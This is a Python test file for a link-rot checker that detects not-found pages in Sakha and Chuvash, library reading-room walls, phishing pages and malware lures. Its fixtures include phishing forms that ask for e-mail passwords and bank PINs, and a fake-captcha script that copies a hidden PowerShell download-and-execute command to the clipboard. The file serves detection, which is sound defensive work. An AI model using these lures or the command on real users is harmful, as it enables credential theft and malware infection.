"""The rules the thirtieth link-rot batch (tests/test_rot_heldout30.py) brought, each on strings or through
:func:`check` with a fetcher double, with what each must leave alone: Sakha and Chuvash not-found messages; a
national library's archived copy readable only in its reading rooms (legal deposit) as a wall; a phishing page
that asks for an e-mail account's password (the rot29 leftover: a password alone, posted to its own host, so
neither the form's fields nor its ``action`` tell it from a wall); a fake captcha that has the reader press
Windows+R and paste a command, and a fake update offering a program, read for what they are (both were taken
for a check of the reader's browser)."""

from __future__ import annotations

import pytest

from linkcheck.extract import extract_metadata
from linkcheck.gates import gate_signal, reading_room_only
from linkcheck.models import Cause, Citation, PartialDate, Status
from linkcheck.names import fold
from linkcheck.pagebody import malware_lure, password_lure
from linkcheck.soft404 import is_error_title
from tests.rot_harness import FIXTURES, body_signal_at, headed_page
from tests.rot_harness import one as _one

#: invented hosts under live top-level domains, for :func:`check` (which holds ``.example`` dead)
LENA = "https://lena-inform.com"
AMUR = "https://amursentinel.com"
ISHIM = "https://ishim-inform.com"
URL = "https://amursentinel.com/2020/02/15/blagoveshchensk-airport-terminal-a91030"


_page = headed_page("2020-02-15T10:00:00+09:00")


_body_signal = body_signal_at(URL)


# --- Sakha and Chuvash --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "title",
    [
        "Сирэй булуллубата",
        "Эһиги көрдүүр сирэйгит суох",
        "Ыстатыйа булуллубата — Өлүөнэ Сонуннара",
        "Страница тупӑнмарӗ — Сӑвар Хыпарӗ",
        "Эсир шыракан страница ҫук",
        "Хыпар тупӑнмарӗ",
    ],
)
def test_sakha_and_chuvash_not_found_titles(title: str) -> None:
    assert is_error_title(title, ["Өлүөнэ Сонуннара", "Сӑвар Хыпарӗ"])


@pytest.mark.parametrize(
    "title",
    [
        "Сирэй булуллубата: саайт тоҕо сүтэрий",  # a headline that starts with the words
        "Дьокуускайга саҥа оскуола аһылынна",
        "Страница тупӑнмарӗ: сайтсем мӗншӗн ҫухалаҫҫӗ",
        "Шупашкарта ҫӗнӗ кӗпер уҫрӗҫ",
    ],
)
def test_sakha_and_chuvash_headlines_left_alone(title: str) -> None:
    assert not is_error_title(title, ["Өлүөнэ Сонуннара", "Сӑвар Хыпарӗ"])


# --- an archived copy readable only in a library's reading rooms --------------------------------------------

_READING_ROOM_H1 = "<h1>This archived page is available in our reading rooms only</h1><p>Legal deposit.</p>"


@pytest.mark.parametrize(
    "text",
    [
        "This archived page is available in our reading rooms only",
        "This page can only be viewed in the reading rooms of a legal deposit library",
        "Available only on the premises of a legal deposit library",
    ],
)
def test_reading_room_notices(text: str) -> None:
    assert reading_room_only(fold(text))


@pytest.mark.parametrize(
    "text",
    [
        "Reading room reopens after refurbishment",  # a headline
        "The library's reading rooms are available to all readers",
        "Premises available to let",
    ],
)
def test_reading_room_words_left_alone(text: str) -> None:
    assert not reading_room_only(fold(text))


def test_reading_room_copy_is_a_legal_wall() -> None:
    head = "<title>Access restricted | National Library Web Archive</title>"
    metadata = extract_metadata(_page(head, _READING_ROOM_H1), URL)
    signal = gate_signal(URL, URL, metadata, 0)
    assert signal is not None
    assert signal[0] is Cause.LEGAL
    assert "reading rooms" in signal[1]


def test_dated_story_about_a_reading_room_left_alone() -> None:
    head = "<title>This archived page is available in our reading rooms only</title>"
    body = _page(head, "<h1>Library opens new reading room</h1><p>" + "Text. " * 40 + "</p>", dated=True)
    assert gate_signal(URL, URL, extract_metadata(body, URL), 0) is None


# --- a phishing page asking for an e-mail account's password ------------------------------------------------

_DOC_PHISH = (
    "<title>Secure Document Viewer</title>",
    "<h2>You have received a secure document</h2><p>To view this document, enter the password of your email"
    " account.</p><form action='/next.php' method='post'><input type='password' name='pwd'>"
    "<button>View</button></form>",
)
_MAILBOX_PHISH = (
    "<title>Вход в почту</title>",
    "<p>Ваш почтовый ящик переполнен. Введите пароль от почты, чтобы не потерять письма.</p>"
    "<form action='/verify.php'><input type='email'><input type='password'></form>",
)


@pytest.mark.parametrize("page", [_DOC_PHISH, _MAILBOX_PHISH])
def test_password_for_a_mailbox_or_document_is_phishing(page: tuple[str, str]) -> None:
    body = _page(*page)
    assert password_lure(body) is not None
    signal = _body_signal(body)
    assert signal is not None
    assert signal[0] is Cause.SPAM
    assert "phishing" in signal[1]


@pytest.mark.parametrize(
    ("head", "body", "dated"),
    [
        # WordPress's password-protected post
        (
            "<title>Protected: Night ferries</title>",
            "<p>This content is password protected. To view it please enter your password below:</p>"
            "<form action='/wp-login.php?action=postpass'>"
            "<input type='password' name='post_password'></form>",
            False,
        ),
        # an outlet's sign-in page: "Email" and "Password" labelled apart
        (
            "<title>Sign in</title>",
            "<form action='/auth/login'><label>Email</label> <input type='email'>"
            "<label>Password</label> <input type='password'></form>",
            False,
        ),
        # the words without a password field
        ("<title>Help</title>", "<p>Never share your email password with anyone.</p>", False),
        # a dated story that quotes a phishing page, beside the site's own sign-in modal
        (
            "<title>Phishing emails ask for your email password</title>",
            "<p>'Enter the password of your email account' is a scam.</p>"
            "<form><input type='password'></form>",
            True,
        ),
    ],
)
def test_password_pages_left_alone(head: str, body: str, dated: bool) -> None:
    page = _page(head, body, dated=dated)
    signal = _body_signal(page)
    assert signal is None or signal[0] is not Cause.SPAM


def test_document_phish_cited_without_title_fails() -> None:
    citation = Citation(url=URL, outlet="The Amur Sentinel", date=PartialDate.parse("2020-02-15"))
    status, cause, verdict, _ = _one(citation, (FIXTURES / "amur-pdf-phish-password-only.html").read_bytes())
    assert (status, cause, verdict) == (Status.SOFT_404, Cause.SPAM, "fail")


_BANK_PIN = (
    "<title>Online Banking - Sign In</title>",
    "<form action='/login/verify.php'><input name='customer_id'><input type='password' name='password'>"
    "<input name='card_number' autocomplete='cc-number'><label>ATM PIN <input type='password' name='pin'>"
    "</label></form>",
)


def test_password_card_and_pin_is_phishing() -> None:
    body = _page(*_BANK_PIN)
    asked = password_lure(body)
    assert asked is not None
    assert "PIN" in asked
    signal = _body_signal(body)
    assert signal is not None
    assert signal[0] is Cause.SPAM


@pytest.mark.parametrize(
    "form",
    [
        # a subscription's checkout: an account's password and a card, no PIN
        "<input type='password' name='new_password'><input name='card_number' autocomplete='cc-number'>",
        # a PIN without a card: a password-protected page's code
        "<input type='password' name='pin'>",
        # a field named for something else ending in "pin"
        "<input type='password'><input name='card_number'><input name='spinner'>",
    ],
)
def test_card_or_pin_alone_left_alone(form: str) -> None:
    body = _page("<title>Checkout</title>", f"<form action='/checkout'>{form}</form>")
    assert password_lure(body) is None


def test_bank_clone_cited_without_title_fails() -> None:
    citation = Citation(url="https://kondor-news.com/politics/1150010", date=PartialDate.parse("2020-02-16"))
    status, cause, verdict, _ = _one(citation, (FIXTURES / "kondor-en-bank-pin-phish.html").read_bytes())
    assert (status, cause, verdict) == (Status.SOFT_404, Cause.SPAM, "fail")


def test_rot29_webmail_phish_cited_without_title_fails() -> None:
    """The rot29 leftover: its webmail page (a password for a mailbox, posted to its own host) passed when
    cited without a title."""
    citation = Citation(url=ISHIM + "/20200207/1590001030.html", date=PartialDate.parse("2020-02-07"))
    status, cause, verdict, _ = _one(citation, (FIXTURES / "ishim-webmail-phish.html").read_bytes())
    assert (status, cause, verdict) == (Status.SOFT_404, Cause.SPAM, "fail")


# --- malware lures: a fake captcha (ClickFix) and a fake update ---------------------------------------------

_CLICKFIX = (
    "<title>Verify you are human</title>",
    "<h1>Verify you are human</h1><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press"
    " <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>",
)
_CLICKFIX_SCRIPT = (
    "<title>Just a moment...</title>",
    "<p>Press Win+R to finish the check.</p><script>navigator.clipboard.writeText('powershell -w hidden -c"
    ' "iwr http://203.0.113.7/x | iex"\')</script>',
)
_FAKE_UPDATE = (
    "<title>Update Your Browser</title>",
    "<h1>Your browser is out of date</h1><a href='/download/BrowserUpdate_x64.exe' download>Update now</a>",
)
_FAKE_UPDATE_RU = (
    "<title>Требуется обновление</title>",
    "<h1>Ваш браузер устарел</h1><a href='/dl/update_ru.exe'>Скачать</a>",
)


@pytest.mark.parametrize(("page", "what"), [(_CLICKFIX, "Windows+R"), (_CLICKFIX_SCRIPT, "Windows+R"),
                                            (_FAKE_UPDATE, "update"),
                                            (_FAKE_UPDATE_RU, "update")])  # fmt: skip
def test_malware_lures(page: tuple[str, str], what: str) -> None:
    body = _page(*page)
    lure = malware_lure(body)
    assert lure is not None
    assert what in lure
    signal = _body_signal(body)
    assert signal is not None
    assert signal[0] is Cause.SPAM
    assert "malware" in signal[1]


@pytest.mark.parametrize(
    ("head", "body", "dated"),
    [
        # a site's own outdated-browser wall links browsers' sites, not a program
        (
            "<title>Ваш браузер устарел</title>",
            "<p>Обновите браузер:</p><a href='https://www.mozilla.org/firefox/'>Firefox</a>",
            False,
        ),
        # a help page: press Windows + R and type a command, nothing to paste
        ("<title>Help</title>", "<p>Press Windows + R, type <code>cmd</code> and press Enter.</p>", False),
        # a download page for a program, no update
        ("<title>Downloads</title>", "<a href='/files/reader-setup.exe'>Our e-paper reader</a>", False),
        # a program's own download page offering its update: not the reader's browser, player or system
        (
            "<title>E-paper reader 3.2</title>",
            "<h1>Update 3.2 is out</h1><p>This update fixes printing.</p>"
            "<a href='/files/reader-3.2-setup.exe'>Download the update for Windows</a>",
            False,
        ),
        # a dated story about ClickFix lures
        (
            "<title>Fake captchas tell readers to press Win+R</title>",
            "<p>They say: press Windows + R, then Ctrl + V.</p>",
            True,
        ),
    ],
)
def test_malware_lure_words_left_alone(head: str, body: str, dated: bool) -> None:
    signal = _body_signal(_page(head, body, dated=dated))
    assert signal is None or "malware" not in signal[1]


def test_sites_own_browser_wall_stays_a_client_check() -> None:
    body = _page("<title>Ваш браузер устарел</title>", "<p>Обновите браузер.</p>")
    assert malware_lure(body) is None
    signal = gate_signal(URL, URL, extract_metadata(body, URL), 0)
    assert signal is not None
    assert signal[0] is Cause.BOT_CHALLENGE


def test_fake_captcha_fails_through_check() -> None:
    citation = Citation(
        url=AMUR + "/2020/02/18/vostochny-cosmodrome-road-reopens-a91050",
        title="Road to Vostochny Cosmodrome Reopens After Snowstorm",
        outlet="The Amur Sentinel",
        date=PartialDate.parse("2020-02-18"),
    )
    status, cause, verdict, _ = _one(citation, (FIXTURES / "amur-clickfix-captcha.html").read_bytes())
    assert (status, cause, verdict) == (Status.SOFT_404, Cause.SPAM, "fail")


def test_story_about_phishing_passes() -> None:
    citation = Citation(
        url=LENA + "/20200211/1600001010.html",
        title="В Якутии выросло число фишинговых атак на клиентов банков",
        outlet="Лена-Информ",
        date=PartialDate.parse("2020-02-11"),
    )
    status, _, verdict, kinds = _one(citation, (FIXTURES / "lena-phishing-warning-story.html").read_bytes())
    assert (status, verdict) == (Status.OK, "pass")
    assert not kinds
